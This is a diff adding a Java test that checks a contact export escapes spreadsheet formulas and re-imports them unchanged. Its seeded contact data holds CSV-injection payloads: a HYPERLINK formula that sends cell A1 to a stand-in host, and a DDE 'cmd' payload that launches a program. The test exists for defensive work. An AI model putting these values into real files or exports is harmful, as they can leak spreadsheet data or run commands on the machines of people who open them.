@@ -64,6 +64,29 @@ class ExportTest {
                 """, file);
     }
 
+    @Inject
+    ImportWorker imports;
+
+    @Test
+    void cellsThatASpreadsheetWouldRunAreWrittenAsTextAndImportBackUnchanged() {
+        Seed.contact(tenant, Bodies.contact().firstName("=HYPERLINK(\"https://x.example/?\"&A1,\"open\")").lastName("@SUM(1+1)")
+                .email("eve@acme.es").phone("+34 600 111 222").tags("-2+3+cmd|' /C calc'!A0", "'=quoted", "vip").build());
+        String id = queued(Tokens.admin(tenant), Map.of("objectType", "contact",
+                "fields", List.of("email", "firstName", "lastName", "phone", "tags")));
+        worker.run(tenant);
+        String file = admin(tenant).when().get("/v1/exports/{id}/file", id).then().statusCode(200).extract().asString();
+        assertEquals("""
+                email,firstName,lastName,phone,tags
+                eve@acme.es,"'=HYPERLINK(""https://x.example/?""&A1,""open"")","'@SUM(1+1)","+34600111222","'-2+3+cmd|' /C calc'!A0;'=quoted;vip"
+                """, file, "formula-like cells start with an apostrophe; the phone number (a sign, then digits) is left alone");
+
+        String again = ImportTest.upload(tenant, "objectType=contact&matchOn=email", "text/csv", file).statusCode(202)
+                .extract().path("id");
+        imports.run(tenant);
+        admin(tenant).when().get("/v1/imports/{id}", again).then().body("status", equalTo("completed"))
+                .body("unchanged", equalTo(1)).body("updated", equalTo(0)).body("failed", equalTo(0));
+    }
+
     @Test
     void writesNdjsonAndAFileCanBeImportedBack() throws Exception {
         Seed.contact(tenant, Bodies.contact().firstName("Ana").email("ana@acme.es").build());
